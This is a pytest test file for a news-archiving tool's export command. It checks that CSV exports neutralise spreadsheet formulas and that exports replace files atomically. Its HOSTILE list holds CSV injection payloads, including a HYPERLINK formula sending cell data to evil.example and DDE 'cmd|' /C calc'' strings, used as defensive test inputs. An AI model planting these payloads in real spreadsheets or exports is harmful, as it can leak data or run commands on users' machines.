"""Issue 11, items 11 and 12: CSV exports are formula-safe; exports replace their file atomically.

Before the fix a sentence beginning with `=HYPERLINK(…)`, `+SUM(…)` or `@cmd|…` went into
`export --format csv` as is, so Excel or LibreOffice ran it as a formula; and `export --out FILE`
wrote in place: `kill -9` midway left a shorter file of valid lines that looked complete and
destroyed the previous export, and a full disk (`ulimit -f`) gave a raw OSError traceback.
"""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import signal
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from copydesk.records import Article, Check, CheckOutcome, CheckResult, Source
from copydesk.store import Store

T0 = datetime(2024, 3, 12, 9, 0, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for the full story")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tab first",
    "\r=1+1 carriage return first",
    '＝HYPERLINK("http://evil.example/")',  # full-width equals sign
]


def _article(paragraphs: tuple[str, ...], title: str) -> Article:
    return Article(
        title=title, byline="=cmd|' /C calc'!A0", published_at="2024-03-12",
        paragraphs=paragraphs, extractor="test",
    )  # fmt: skip


def _fill(url: str, articles: int = 1, versions: int = 2) -> None:
    store = Store.open(url)
    try:
        store.add_source(Source(name="herald"), now=T0)
        for n in range(articles):
            article = store.add_article("herald", f"https://h.example/news/{n}", now=T0)
            for v in range(versions):
                paragraphs = (
                    f"The council met on day {v} to discuss the harbour.",
                    *HOSTILE[: 1 + v * 6],
                    f"Story {n} ends here.",
                    f"Reference {os.urandom(300).hex()}.",  # incompressible: exports have a size
                )
                check = Check(
                    article_id=article.id,
                    checked_at=T0 + timedelta(hours=v),
                    outcome=CheckOutcome.NEW_VERSION,
                    status=200,
                )
                raw = b"<html><body><p>" + os.urandom(700).hex().encode() + b"</p></body></html>"
                store.record_check(
                    CheckResult(check=check, article=_article(paragraphs, HOSTILE[0]), raw_html=raw)
                )
    finally:
        store.close()


def _cli(cwd: Path, *args: str, limit: int | None = None) -> subprocess.CompletedProcess[str]:
    def cap() -> None:
        if limit is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return subprocess.run(
        [sys.executable, "-m", "copydesk", "--db", str(cwd / "e.db"), *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        preexec_fn=cap,
        env={k: v for k, v in os.environ.items() if not k.startswith("COPYDESK_")},
    )


# ── item 11: formulas ────────────────────────────────────────────────────────────────────


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("what", ["versions", "edits"])
def test_no_csv_cell_starts_like_a_formula(tmp_path, what):
    _fill(f"sqlite:///{tmp_path / 'e.db'}")
    result = _cli(tmp_path, "export", "--format", "csv", "--what", what)
    assert result.returncode == 0, result.stderr
    cells = _cells(result.stdout)
    assert len(cells) > 20
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")]
    assert dangerous == []
    # neutralised with a leading apostrophe, the rest of the text kept
    assert any(c.startswith("'=HYPERLINK(") for c in cells) or what == "edits"
    assert any(c.startswith("'+SUM(") for c in cells) or what == "versions"


def test_jsonl_and_parquet_stay_exact(tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    _fill(f"sqlite:///{tmp_path / 'e.db'}")
    result = _cli(tmp_path, "export", "--format", "jsonl")
    rows = [json.loads(line) for line in result.stdout.splitlines() if line.strip()]
    assert rows[0]["title"] == HOSTILE[0]
    assert rows[1]["paragraphs"][1:8] == HOSTILE
    out = tmp_path / "v.parquet"
    assert _cli(tmp_path, "export", "--format", "parquet", "--out", str(out)).returncode == 0
    table = pq.read_table(out).to_pylist()
    assert table[0]["title"] == HOSTILE[0]
    assert table[1]["byline"] == "=cmd|' /C calc'!A0"


# ── item 12: atomic replacement ──────────────────────────────────────────────────────────


@pytest.mark.slow
def test_kill_9_midway_keeps_the_previous_export_whole(tmp_path):
    _fill(f"sqlite:///{tmp_path / 'e.db'}", articles=400, versions=3)
    out = tmp_path / "versions.jsonl"
    assert _cli(tmp_path, "export", "--out", str(out)).returncode == 0
    previous = out.read_bytes()
    assert previous.count(b"\n") >= 1200
    process = subprocess.Popen(
        [sys.executable, "-m", "copydesk", "--db", str(tmp_path / "e.db"), "export",
         "--format", "csv", "--what", "edits", "--out", str(out)],
        cwd=tmp_path,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env={k: v for k, v in os.environ.items() if not k.startswith("COPYDESK_")},
    )  # fmt: skip
    # kill it once it has started writing: the export changed, or a temporary file appeared
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and process.poll() is None:
        started = [p for p in tmp_path.iterdir() if p.name.startswith(".")]
        if started or out.stat().st_size != len(previous):
            break
        time.sleep(0.005)
    assert process.poll() is None, "the export ended before it could be killed"
    process.send_signal(signal.SIGKILL)
    process.wait()
    assert out.read_bytes() == previous  # the old export, whole, not a shorter file


@pytest.mark.slow
def test_a_finished_export_replaces_the_previous_one(tmp_path):
    _fill(f"sqlite:///{tmp_path / 'e.db'}")
    out = tmp_path / "x.csv"
    out.write_text("old export\n", encoding="utf-8")
    os.chmod(out, 0o644)
    assert _cli(tmp_path, "export", "--format", "csv", "--out", str(out)).returncode == 0
    assert out.read_text(encoding="utf-8").startswith("article_url,")
    assert oct(out.stat().st_mode & 0o777) == oct(0o644)
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet", "warc"])
def test_a_full_disk_is_one_line_and_keeps_the_previous_export(tmp_path, fmt):
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    _fill(f"sqlite:///{tmp_path / 'e.db'}", articles=60, versions=3)
    out = tmp_path / (
        "export." + {"jsonl": "jsonl", "csv": "csv", "parquet": "parquet", "warc": "warc.gz"}[fmt]
    )
    out.write_bytes(b"the previous export\n")
    # room for SQLite's own files (its -shm is 32 KiB), not for the export
    result = _cli(tmp_path, "export", "--format", fmt, "--out", str(out), limit=48 * 1024)
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    assert str(out) in lines[0] or out.name in lines[0]
    assert out.read_bytes() == b"the previous export\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
